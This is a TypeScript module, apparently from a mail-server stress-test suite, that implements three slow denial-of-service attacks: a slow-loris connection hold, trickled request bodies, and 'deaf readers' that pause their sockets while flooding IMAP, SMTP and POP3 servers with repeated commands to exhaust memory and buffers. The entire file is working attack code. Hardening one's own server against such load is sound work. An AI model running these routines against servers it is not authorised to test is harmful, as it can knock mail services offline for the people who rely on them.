/** Who takes his time: half lines, crawling bodies, and readers that ask for much and read nothing of it. */
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, DOORS, imap, inData, Raw, rest } from './attack.ts'

const loris: Attack = {
  name: 'slow-loris',
  run: async (victim, time) => {
    const count = 100 * time.scale
    const all = await Promise.all(
      Array.from({ length: count }, (_, n) => Raw.to(victim, DOORS[n % DOORS.length] as string)),
    )
    while (time.left() > 0) {
      for (const raw of all) void raw.write('x')
      await sleep(100)
    }
    const stood = all.filter(raw => !raw.gone).length
    for (const raw of all) raw.end()
    return { connections: count, stood }
  },
}

const crawl: Attack = {
  name: 'crawling-bodies',
  run: async (victim, time) => {
    const all = await Promise.all(Array.from({ length: 50 * time.scale }, () => inData(victim)))
    let octets = 0
    while (time.left() > 0) {
      for (const raw of all) void raw.write('y')
      octets += all.length
      await sleep(20)
    }
    for (const raw of all) raw.end()
    return { bodies: all.length, octets }
  },
}

/** Commands without end, and never a read: the server must stop to read, not keep replies. */
const deaf: Attack = {
  name: 'deaf-readers',
  run: async (victim, time) => {
    const all: Raw[] = []
    for (let n = 0; n < 6 * time.scale; n++) {
      const box = await imap(victim)
      box.socket.pause()
      void box.write('c UID FETCH 1:* (BODY.PEEK[] ENVELOPE BODYSTRUCTURE)\r\n'.repeat(50))
      const smtp = await Raw.to(victim, 'smtp')
      smtp.socket.pause()
      const pop = await Raw.to(victim, 'pop3')
      pop.socket.pause()
      all.push(box, smtp, pop)
    }
    let sent = 0
    while (time.left() > 0) {
      for (const [n, raw] of all.entries()) {
        if (n % 3 === 0 || raw.socket.writableLength > 1_000_000) continue
        const text = (n % 3 === 1 ? 'EHLO x\r\n' : 'CAPA\r\n').repeat(5000)
        raw.socket.write(text)
        sent += text.length
      }
      await sleep(20)
    }
    await rest(time)
    for (const raw of all) raw.end()
    return { readers: all.length, sentMb: Math.round(sent / 1_048_576) }
  },
}

export const slow: readonly Attack[] = [loris, crawl, deaf]
